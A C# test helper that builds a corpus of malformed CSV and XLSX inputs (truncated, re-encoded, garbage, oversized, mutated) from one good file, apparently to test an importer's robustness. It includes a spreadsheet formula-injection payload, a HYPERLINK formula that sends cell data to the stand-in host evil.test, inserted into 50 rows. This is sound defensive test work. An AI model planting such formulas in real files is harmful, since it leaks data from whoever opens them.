using System.IO.Compression;
using System.Text;

namespace Jamsostek.Tests.Reliability;

/// <summary>
/// Bad files generated from a good one (no binary fixture is committed): truncated, re-encoded, garbage, a 100 MB cell,
/// a million empty rows, formula cells, a zip of garbage named .xlsx, and seeded mutants (byte flips, deleted lines, swapped columns).
/// </summary>
public static class BadInputCorpus
{
    public const string Hyperlink = "=HYPERLINK(\"http://evil.test/?d=\"&A2,\"klik\")";

    /// <summary>Writes every bad variant of <paramref name="good"/> into <paramref name="folder"/>, each named prefix + kind.</summary>
    public static IReadOnlyList<string> Write(string good, string folder, string prefix, string cellColumn, int seed)
    {
        Directory.CreateDirectory(folder);
        var bytes = File.ReadAllBytes(good);
        var text = Encoding.UTF8.GetString(bytes);
        var lines = text.Split('\n').Select(l => l.TrimEnd('\r')).Where(l => l.Length > 0).ToList();
        var header = lines[0].Split(',');
        var cell = Array.FindIndex(header, h => h.Equals(cellColumn, StringComparison.OrdinalIgnoreCase));
        var written = new List<string>();
        string Path(string kind, string extension = ".csv")
        {
            var path = System.IO.Path.Combine(folder, $"{prefix}_{kind}{extension}");
            written.Add(path);
            return path;
        }

        // Cut in the middle of a row, as a copy that stopped half-way leaves it.
        File.WriteAllBytes(Path("truncated"), bytes[..(int)(bytes.Length * 0.6)]);
        File.WriteAllText(Path("utf16"), text, Encoding.Unicode);
        File.WriteAllText(Path("utf16be"), text, Encoding.BigEndianUnicode);
        var random = new Random(seed);
        var garbage = new byte[1 << 20];
        random.NextBytes(garbage);
        File.WriteAllBytes(Path("garbage"), garbage);
        File.WriteAllBytes(Path("empty"), []);
        File.WriteAllText(Path("header_only"), lines[0] + "\n");
        WriteHugeCell(Path("huge_cell"), lines, cell);
        using (var empty = new StreamWriter(Path("empty_rows"), false, new UTF8Encoding(false), 1 << 16))
        {
            empty.Write(lines[0] + "\r\n");
            var commas = new string(',', header.Length - 1) + "\r\n";
            for (var i = 0; i < 1_000_000; i++)
            {
                empty.Write(commas);
            }
        }

        var formulas = new StringBuilder(lines[0]).Append('\n');
        foreach (var line in lines.Skip(1).Take(50))
        {
            var fields = line.Split(',');
            fields[cell] = "\"" + Hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
            formulas.Append(string.Join(',', fields)).Append('\n');
        }

        foreach (var line in lines.Skip(51))
        {
            formulas.Append(line).Append('\n');
        }

        File.WriteAllText(Path("formula"), formulas.ToString());
        using (var zip = ZipFile.Open(Path("zip_of_garbage", ".xlsx"), ZipArchiveMode.Create))
        {
            foreach (var entry in new[] { "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml" })
            {
                using var stream = zip.CreateEntry(entry).Open();
                stream.Write(garbage, 0, 4096);
            }
        }

        File.WriteAllBytes(Path("garbage", ".xlsx"), garbage[..65536]);

        for (var m = 0; m < 3; m++)
        {
            var flipped = (byte[])bytes.Clone();
            for (var i = 0; i < 40; i++)
            {
                flipped[random.Next(flipped.Length)] ^= (byte)(1 << random.Next(8));
            }

            File.WriteAllBytes(Path($"mutant{m}_flips"), flipped);
            var kept = lines.Where((_, i) => random.NextDouble() > 0.03).ToList();
            File.WriteAllText(Path($"mutant{m}_deleted_lines"), string.Join('\n', kept) + "\n");
            var (a, b) = (random.Next(header.Length), random.Next(header.Length));
            var swapped = lines.Select((line, i) =>
            {
                // Swapped in the header of one mutant (columns mislabelled) and in about a tenth of the rows of all.
                if ((i == 0 && m == 0) || (i > 0 && random.NextDouble() < 0.1))
                {
                    var fields = line.Split(',');
                    if (fields.Length > Math.Max(a, b))
                    {
                        (fields[a], fields[b]) = (fields[b], fields[a]);
                    }

                    return string.Join(',', fields);
                }

                return line;
            });
            File.WriteAllText(Path($"mutant{m}_swapped_columns"), string.Join('\n', swapped) + "\n");
        }

        return written;
    }

    /// <summary>A 100 MB cell, streamed to disk, in the second row; the other rows are as good as before.</summary>
    private static void WriteHugeCell(string path, List<string> lines, int cell)
    {
        using var writer = new StreamWriter(path, false, new UTF8Encoding(false), 1 << 16);
        writer.Write(lines[0] + "\n");
        var fields = lines[1].Split(',');
        for (var i = 0; i < fields.Length; i++)
        {
            if (i > 0)
            {
                writer.Write(',');
            }

            if (i == cell)
            {
                var chunk = new string('A', 1 << 20);
                for (var mb = 0; mb < 100; mb++)
                {
                    writer.Write(chunk);
                }
            }
            else
            {
                writer.Write(fields[i]);
            }
        }

        writer.Write('\n');
        foreach (var line in lines.Skip(2).Take(100))
        {
            writer.Write(line + "\n");
        }
    }
}
